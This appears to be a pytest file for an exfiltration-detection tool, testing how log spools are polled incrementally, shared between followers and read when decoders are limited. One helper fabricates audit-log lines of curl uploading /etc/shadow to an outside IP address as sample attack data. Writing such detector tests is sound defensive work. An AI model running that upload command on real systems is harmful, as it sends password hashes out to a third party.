"""Polling a spool: lines are read on where the last poll ended, and what was found is found once."""

import asyncio
import json
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from pathlib import Path

from exfilwatch.detection.engine import Engine
from exfilwatch.detection.load import load
from exfilwatch.events.inputs import open_inputs
from exfilwatch.events.limits import Limits
from exfilwatch.events.report import Report
from exfilwatch.findings.finding import finding
from exfilwatch.polling import following
from exfilwatch.polling.following import Follower
from exfilwatch.rules.packs import pack
from exfilwatch.siem.files import Files

from .memory_siem import START, connection, process
from .test_poller import MINUTE, RULES

LINES = [
    process(START, "ws1", "upload a"),
    process(START + MINUTE, "ws1", "archive"),
    connection(START + 2 * MINUTE, "ws1", "203.0.113.1"),
    *(process(START + n * MINUTE, "ws2", f"beat {n}") for n in range(5)),
]


def write(path, records):
    with path.open("ab") as file:
        file.writelines(record.record + b"\n" for record in records)


def poll(folder, store, rules=RULES, now=time.time):
    spool = Files("spool", Files.Settings(kind="files", paths=[str(folder)]), now=now)
    return asyncio.run(Follower(spool, rules, store).once())


def clean(folder, rules=RULES):
    inputs = open_inputs([str(folder)], Report(), Limits(), replayable=True)
    return sorted({finding(each).id for each in Engine(rules, Report()).run(inputs)})


def found(store):
    return sorted(each.id for each in store.find())


def test_lines_that_come_between_polls_give_what_one_reading_gives(tmp_path, store):
    log = tmp_path / "logs" / "day.jsonl"
    log.parent.mkdir()
    counts = []
    for record in LINES:
        write(log, [record])
        counts.append(poll(log.parent, store).records)
    assert counts == [1] * len(LINES)
    assert found(store) == clean(log.parent)
    assert poll(log.parent, store).records == 0


def test_two_that_follow_the_same_files_into_one_database_do_not_both_count(tmp_path, store):
    log = tmp_path / "logs" / "day.jsonl"
    log.parent.mkdir()
    write(log, LINES[:1])
    spool = Files("spool", Files.Settings(kind="files", paths=[str(log.parent)]))
    portions = spool.portions

    def overtaken(position, report):
        for portion in portions(position, report):
            with ThreadPoolExecutor() as other:
                other.submit(poll, log.parent, store).result()  # was faster
            yield portion

    spool.portions = overtaken
    run = asyncio.run(Follower(spool, RULES, store).once())
    assert "another process follows it" in run.problem
    assert run.findings == 0
    assert found(store) == clean(log.parent)


def test_more_logs_than_decoders_are_kept_in_memory_are_read_as_one_by_one(tmp_path, store, monkeypatch):
    monkeypatch.setattr(following, "_MOST_DECODERS", 1)
    rules = load([pack("exfil")])
    folder = tmp_path / "logs"
    folder.mkdir()
    for turn in range(2):
        for name in ("a", "b", "c"):
            lines = [audit(turn, name, number) for number in range(2)]
            with (folder / f"{name}.log").open("a") as file:
                file.writelines(lines)
        poll(folder, store, rules)
    poll(folder, store, rules, lambda: time.time() + 60)  # nothing more was written for a minute
    assert found(store) == clean(folder, rules)
    assert len(found(store)) == 12 + 3  # each upload, and for each host that they recur


def audit(turn, host, serial):
    at = datetime(2026, 1, 1, tzinfo=UTC).timestamp() + turn * 60 + serial
    stamp = f"msg=audit({at:.3f}:{turn * 10 + serial}):"
    return (
        f"node={host} type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 "
        f'comm="curl" exe="/usr/bin/curl"\n'
        f'node={host} type=EXECVE {stamp} argc=3 a0="curl" a1="-T/etc/shadow" a2="http://203.0.113.1/"\n'
    )


def test_a_log_that_can_not_be_read_is_told_and_holds_nothing_up(tmp_path, store):
    folder = Path(tmp_path) / "logs"
    folder.mkdir()
    write(folder / "good.jsonl", LINES[:1])
    (folder / "odd.jsonl").write_text(json.dumps({"nothing": "known"}) + "\n")
    run = poll(folder, store)
    assert (run.findings, run.problem) == (1, "")
